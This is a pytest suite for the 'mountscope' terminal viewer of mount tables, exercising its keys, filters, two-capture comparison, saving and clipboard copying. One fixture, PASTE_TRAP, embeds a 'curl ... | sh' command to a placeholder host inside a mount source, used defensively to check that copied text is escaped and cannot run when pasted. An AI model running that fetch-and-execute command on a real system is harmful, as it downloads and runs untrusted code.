"""The app, driven with Textual's Pilot: open, move, jump from evidence,
filter, compare, next difference, differences only, save, open, help, quit."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from mountscope.system.loader import load
from mountscope.tui.app import MainScreen, MountscopeApp
from mountscope.tui.panes import ConfirmScreen, DetailsPane, HelpScreen, PathScreen, VerdictPane
from mountscope.tui.view import RowsView
from tests.helpers import ARTICLE, needs_unshare, run_cli
from tests.helpers.pilot import settled, until

P1, P2 = ARTICLE / "lambda-pattern1.txt", ARTICLE / "lambda-pattern2.txt"


def app_for(*paths: Path, **kwargs) -> MountscopeApp:  # type: ignore[no-untyped-def]
    captures = [load(str(p)) for p in paths]
    return MountscopeApp(captures[0], captures[1] if len(captures) > 1 else None, **kwargs)


def lines(view: RowsView) -> list[str]:
    """What the tree view shows, line by line, as a person reads it."""
    return [view.render_line(y).text.rstrip() for y in range(view.size.height)]


def target_of(app: MountscopeApp) -> str:
    screen = app.screen
    assert isinstance(screen, MainScreen)
    view = screen.query_one(RowsView)
    node = view.node
    assert node is not None
    if screen.comparison is not None:
        return screen.comparison.pairs[node].target
    return screen.capture.mounts[node].target


async def test_open_shows_the_tree_and_the_verdict():
    app = app_for(P2)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        view = app.screen.query_one(RowsView)
        shown = lines(view)
        assert shown[0].split() == ["TARGET", "SOURCE"]
        assert shown[1].strip().startswith("/")
        assert any(line.strip().startswith("├─/var/task") for line in shown)
        headline = app.screen.query_one("#verdict .headline").render()
        assert "aws-lambda" in str(headline)


async def test_the_cursor_moves_with_vim_keys_and_the_details_follow():
    app = app_for(P1)
    async with app.run_test(size=(120, 40)) as pilot:
        await settled(pilot)
        assert target_of(app) == "/"
        await pilot.press("j", "j", "down")
        assert target_of(app) == "/tmp"
        await pilot.press("k", "up")
        assert target_of(app) == "/var/task"
        details = str(app.screen.query_one("#details", DetailsPane).text)
        assert "/var/task" in details and "/dev/loop1" in details and "line 3" in details
        await pilot.press("G")
        assert target_of(app) == "/etc/resolv.conf"
        await pilot.press("g")
        assert target_of(app) == "/"


async def test_collapse_and_expand():
    app = app_for(P1)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        view = app.screen.query_one(RowsView)
        assert len(view.rows.state.rows) == 10
        await pilot.press("h")  # collapse /
        assert len(view.rows.state.rows) == 1 and "▸/" in lines(view)[1]
        await pilot.press("l")
        assert len(view.rows.state.rows) == 10
        await pilot.press("minus")
        assert len(view.rows.state.rows) == 1
        await pilot.press("plus")
        assert len(view.rows.state.rows) == 10


async def test_selecting_evidence_moves_the_tree_to_its_mount():
    app = app_for(P1)
    async with app.run_test(size=(120, 40)) as pilot:
        await settled(pilot)
        pane = app.screen.query_one("#verdict", VerdictPane)
        wanted = next(i for i, e in enumerate(pane.verdict.evidence) if e.rule == "lambda.boot-id")
        evidence = pane.query_one(".evidence")
        evidence.focus()
        evidence.highlighted = wanted
        await pilot.press("enter")
        await pilot.pause()
        assert target_of(app) == "/proc/sys/kernel/random/boot_id"
        assert app.focused is app.screen.query_one(RowsView)


async def test_a_letter_that_finds_the_same_mounts_leaves_the_rows_as_they_are():
    """Typing on into a word that already finds the same mounts redraws
    nothing: the rows shown stay the same list, the filter is the new text."""
    app = app_for(P1)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        view = app.screen.query_one(RowsView)
        await pilot.press("slash", *"var/tas")
        await until(pilot, lambda: app.screen.filter_text == "var/tas" and view.rows.matches)
        await settled(pilot)
        shown, matches = view.rows.state.rows, set(view.rows.matches)
        assert [app.screen.capture.mounts[n].target for n in shown] == ["/", "/var/task"]
        await pilot.press("k")
        await until(pilot, lambda: app.screen.filter_text == "var/task")
        await settled(pilot)
        assert view.rows.matches == matches and view.rows.state.rows is shown
        await pilot.press("s")  # a letter that finds nothing: the rows go
        await until(pilot, lambda: not view.rows.matches)
        assert view.rows.state.rows is not shown


async def test_a_filter_shows_the_first_matchs_details_in_the_same_frame():
    """The filter moves the cursor to its first match, and the details pane
    shows that mount before the filter's call returns: in the frame that
    shows the rows, not in one drawn after the view's message comes round."""
    app = app_for(P1)
    async with app.run_test(size=(120, 40)) as pilot:
        await settled(pilot)
        screen = app.screen
        assert isinstance(screen, MainScreen)
        details = screen.query_one("#details", DetailsPane)
        assert target_of(app) == "/"
        screen._set_filter("kind:loop")  # no await: no message is handled in between
        assert target_of(app) == "/var/task"
        assert "/var/task" in details.text.plain.splitlines()[0]
        screen._set_filter("")
        assert "/var/task" in details.text.plain.splitlines()[0]  # the cursor stays


async def test_filter_then_n_and_n_move_between_matches():
    app = app_for(P1)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        await pilot.press("slash", *"kind:loop")
        view = app.screen.query_one(RowsView)
        # Filtered as typed (in a worker); the cursor on the first match.
        await until(pilot, lambda: len(view.rows.state.rows) < 10)
        visible = [app.screen.capture.mounts[n].target for n in view.rows.state.rows]
        assert visible == ["/", "/var/task", "/tmp"]  # the matches and their ancestor
        assert target_of(app) == "/var/task"
        await pilot.press("enter")
        await pilot.pause()
        await pilot.press("n")
        assert target_of(app) == "/tmp"
        await pilot.press("n")  # around, with a note
        assert target_of(app) == "/var/task"
        assert any("continuing at TOP" in str(n.message) for n in app._notifications)
        await pilot.press("N")
        assert target_of(app) == "/tmp"
        assert any("continuing at BOTTOM" in str(n.message) for n in app._notifications)
        await pilot.press("N")
        assert target_of(app) == "/var/task"
        await pilot.press("slash", "ctrl+u", *"!kind:loop", "enter")  # negated
        await pilot.pause()
        assert len(view.rows.state.rows) == 8
        assert "/var/task" not in [
            app.screen.capture.mounts[n].target for n in view.rows.state.rows
        ]
        await pilot.press("escape")
        assert len(view.rows.state.rows) == 10


async def test_side_by_side_next_difference_and_differences_only():
    app = app_for(P1, P2)
    async with app.run_test(size=(120, 40)) as pilot:
        await settled(pilot)
        view = app.screen.query_one(RowsView)
        shown = lines(view)
        # One table: one TARGET column, the field that differs as A and B.
        assert shown[0].split() == ["TARGET", "SOURCE", "A", "│", "SOURCE", "B"]
        # The comparison puts the cursor on the first difference.
        assert target_of(app) == "/var/task"
        await pilot.press("n")
        assert target_of(app) == "/var/task"
        row = lines(view)[view.cursor + 1]
        assert row.startswith("~ ├─/var/task") and row.count("/var/task") == 1
        a_value, b_value = row.split("│")
        assert "/dev/loop1" in a_value and "/dev/vdb[/opt/amazon/asc/worker/tasks" in b_value
        details = str(app.screen.query_one("#details", DetailsPane).text)
        assert "changed: /var/task" in details and "≠" in details
        await pilot.press("n")  # there is no other difference
        assert target_of(app) == "/var/task"
        await pilot.press("d")
        assert [app.screen.comparison.pairs[n].target for n in view.rows.state.rows] == [
            "/",
            "/var/task",
        ]
        await pilot.press("d")
        assert len(view.rows.state.rows) == 10


async def test_both_verdicts_mark_the_evidence_only_one_side_has():
    app = app_for(P1, P2)
    async with app.run_test(size=(120, 40)) as pilot:
        await settled(pilot)
        a = app.screen.query_one("#verdict-a", VerdictPane)
        b = app.screen.query_one("#verdict-b", VerdictPane)
        assert a.only_here == {"lambda.var-task-loop"} and b.only_here == {"lambda.task-dir"}
        prompts = [str(o.prompt) for o in b.query_one(".evidence").options]
        assert any(p.startswith("◆ ") and "task directory" in p for p in prompts)


async def test_save_writes_a_snapshot_and_asks_before_replacing(tmp_path: Path):
    target = tmp_path / "saved.json"
    app = app_for(P2)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        await pilot.press("s")
        await pilot.pause()
        assert isinstance(app.screen, PathScreen)
        app.screen.query_one("#path-input").value = str(target)
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(app.screen, MainScreen)
        assert load(str(target)).mounts[1].target == "/var/task"
        target.write_text("precious")
        await pilot.press("s")
        await pilot.pause()
        app.screen.query_one("#path-input").value = str(target)
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(app.screen, ConfirmScreen)
        await pilot.press("n")
        await pilot.pause()
        assert target.read_text() == "precious"
        await pilot.press("s")
        await pilot.pause()
        app.screen.query_one("#path-input").value = str(target)
        await pilot.press("enter", "y")
        await pilot.pause()
        assert json.loads(target.read_text())["format"] == "mountscope.snapshot"


async def test_open_loads_another_capture_with_hash_n():
    app = app_for(P1)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        await pilot.press("o")
        await pilot.pause()
        app.screen.query_one("#path-input").value = f"{ARTICLE / 'excerpt.txt'}#3"
        await pilot.press("enter", "r")  # r: in place of this one
        await settled(pilot)
        screen = app.screen
        assert isinstance(screen, MainScreen) and len(screen.capture.mounts) == 14
        assert screen.verdict is not None and screen.verdict.environment == "vm"


async def test_help_lists_the_keys_and_closes():
    app = app_for(P1, P2)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        await pilot.press("question_mark")
        await pilot.pause()
        assert isinstance(app.screen, HelpScreen)
        keys = dict(app.screen.rows)
        assert keys["n"] == "Next" and keys["d"] == "Diffs" and keys["q"] == "Quit"
        assert keys["↑ / k"] == "Up" and keys["? / F1"] == "Help" and keys["Ctrl+B"] == "Side"
        await pilot.press("escape")
        assert isinstance(app.screen, MainScreen)


async def test_the_command_palette_lists_every_action():
    app = app_for(P1)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        titles = {command.title for command in app.get_system_commands(app.screen)}
        # Only what acts here: one capture, no filter: no next difference or match.
        assert not {"Next", "Previous", "Diffs", "Path order"} & titles
        assert {
            "Filter",
            "Side",
            "Maximize tree",
            "Wrap",
            "Save",
            "Open",
            "Verdict",
            "Expand all",
            "Collapse all",
        } <= titles


async def test_q_quits():
    app = app_for(P1)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        await pilot.press("q")
        await pilot.pause()
    assert app.return_code == 0


async def test_bracketed_sources_render_literally():
    source = "/dev/vdb[/opt/amazon/asc/worker/tasks/<AWSアカウントID>/<Lambda関数名>/<UUIDらしきランダムな文字列>]"
    app = app_for(P2)
    async with app.run_test(size=(300, 30)) as pilot:
        await settled(pilot)
        text = "\n".join(lines(app.screen.query_one(RowsView)))
        assert source in text and "/dev/root[/etc/passwd]" in text
    app = app_for(P2)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot)
        await pilot.press("j")
        assert "[/opt/amazon/asc/worker/tasks/<AWSアカウントID>/<Lambda関数名>/" in str(
            app.screen.query_one("#details", DetailsPane).text
        ).replace("\n", "")


@needs_unshare
async def test_live_mode_shows_a_new_mount_as_it_happens(namespace, tmp_path: Path):
    from mountscope.capture import capture_live

    point = tmp_path / "arrived"
    point.mkdir()
    app = MountscopeApp(capture_live(namespace.pid), live_pid=namespace.pid)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause(0.3)
        namespace.run("mount", "-t", "tmpfs", "-o", "size=1m", "livetest", str(point))
        screen = app.screen
        await until(pilot, lambda: any(m.target == str(point) for m in screen.capture.mounts))
        view = screen.query_one(RowsView)
        changed = [screen.capture.mounts[n].target for n in view.rows.changed]
        assert changed == [str(point)]
        node = next(i for i, m in enumerate(screen.capture.mounts) if m.target == str(point))
        view.show_node(node)
        assert lines(view)[view.cursor + 1 - int(view.scroll_y)].startswith("● ")


def test_piping_mountscope_prints_text_and_no_escape_sequences():
    for args in ([str(P1)], [str(P1), str(P2)], []):
        result = run_cli(*args)
        assert result.returncode in (0, 1), result.stderr
        assert b"\x1b" not in result.stdout and b"\x1b" not in result.stderr
        assert result.stdout
    single = run_cli(str(P1)).stdout.decode().splitlines()
    assert single[0].startswith("aws-lambda (confidence") and "TARGET" in "\n".join(single)
    dumb = run_cli(str(P1), env={"TERM": "dumb"})
    assert b"\x1b" not in dumb.stdout


def test_the_tui_package_imports_textual_only_when_run():
    import subprocess

    code = "import sys, mountscope.tui; assert 'textual' not in sys.modules"
    assert subprocess.run([sys.executable, "-c", code]).returncode == 0


def test_the_app_loads_the_classifier_and_the_diff_after_its_first_frame():
    """Judging and comparing run in a worker once the tree is on screen: the
    modules that do them are not part of the app's start."""
    import subprocess

    code = (
        "import sys, mountscope.tui.app\n"
        "late = ('mountscope.classify', 'mountscope.diff', 'mountscope.render.verdict')\n"
        "assert not [m for m in late if m in sys.modules], [m for m in late if m in sys.modules]"
    )
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True)
    assert ran.returncode == 0, ran.stderr.decode()


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
async def test_a_large_table_opens_and_moves(size, tmp_path: Path):
    from benchmarks.generate import generate

    table = tmp_path / "big.mountinfo"
    table.write_text(generate(20000, seed=3))
    app = app_for(table)
    async with app.run_test(size=size) as pilot:
        await settled(pilot)
        view = app.screen.query_one(RowsView)
        assert len(view.rows.state.rows) == 20000
        await pilot.press("pagedown", "pagedown", "G", "h", "g", "h")
        assert len(view.rows.state.rows) < 20000


# --- copying a source: the escaped form, never raw controls -------------------------------------

PASTE_TRAP = (
    "/dev/x\\012curl\\040https://example.invalid/x|sh\\012\x1b[31m"  # \012: the kernel's newline
)
HOSTILE_SOURCES = (
    b"1 0 8:1 / / rw - ext4 /dev/sda1 rw\n"
    b"2 1 0:2 / /mnt/trap rw - tmpfs " + PASTE_TRAP.encode() + b" rw\n"
    b"3 1 0:3 / /mnt/bytes rw - tmpfs raw\xff\x9bsrc rw\n"
)


async def _copy_source_of(app: MountscopeApp, target: str) -> str:
    async with app.run_test(size=(120, 30)) as pilot:
        await pilot.pause()
        for _ in range(10):
            if target_of(app) == target:
                break
            await pilot.press("j")
        assert target_of(app) == target
        await pilot.press("y")
        await pilot.pause()
        copied = app.clipboard
    assert app.return_code in (None, 0)
    return copied


async def test_y_copies_the_escaped_source_not_its_control_characters(tmp_path: Path):
    from mountscope.text import safe

    table = tmp_path / "trap.mountinfo"
    table.write_bytes(HOSTILE_SOURCES)
    copied = await _copy_source_of(app_for(table), "/mnt/trap")
    assert copied.isprintable()  # no newline, no escape: pasting it runs nothing
    assert copied == "/dev/x\\x0acurl https://example.invalid/x|sh\\x0a\\x1b[31m"
    assert copied == safe(load(str(table)).mounts[1].display_source)  # as displayed


async def test_y_on_a_source_that_is_not_utf8_copies_its_escapes(tmp_path: Path):
    table = tmp_path / "bytes.mountinfo"
    table.write_bytes(HOSTILE_SOURCES)
    assert await _copy_source_of(app_for(table), "/mnt/bytes") == "raw\\xff\\x9bsrc"


def test_y_in_a_real_terminal_writes_a_printable_osc52_and_the_app_goes_on(tmp_path: Path):
    import base64
    import re

    from tests.helpers.pty import Terminal

    table = tmp_path / "bytes.mountinfo"
    table.write_bytes(HOSTILE_SOURCES)
    term = Terminal([sys.executable, "-m", "mountscope", str(table)], cols=120, rows=30)
    try:
        term.wait_for("/mnt/bytes")
        term.send("G")  # the last row: /mnt/bytes
        term.wait_for("raw\\xff\\x9bsrc")
        term.send("y")
        term.wait_for("copied")
        payloads = re.findall(rb"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", bytes(term.raw))
        assert [base64.b64decode(p).decode() for p in payloads] == ["raw\\xff\\x9bsrc"]
        assert term.process.poll() is None
        term.send("q")
        assert term.wait_exit() == 0
    finally:
        term.close()


def test_an_unhandled_error_in_the_app_is_a_failing_exit_status(tmp_path: Path):
    """The app's own status reaches the shell (it exited 0 after a traceback)."""
    from tests.helpers.pty import Terminal

    # A defect stands in as an action that raises: the exit status is what is tested.
    code = (
        "import sys\n"
        "from mountscope.tui import app\n"
        "def broken(self): raise RuntimeError('a defect')\n"
        "app.MainScreen.action_copy_source = broken\n"
        "from mountscope.cli import main\n"
        "sys.exit(main(sys.argv[1:]))\n"
    )
    term = Terminal([sys.executable, "-c", code, str(P1)], cols=120, rows=30)
    try:
        term.wait_for("/var/task")
        term.send("y")
        assert term.wait_exit() != 0
    finally:
        term.close()
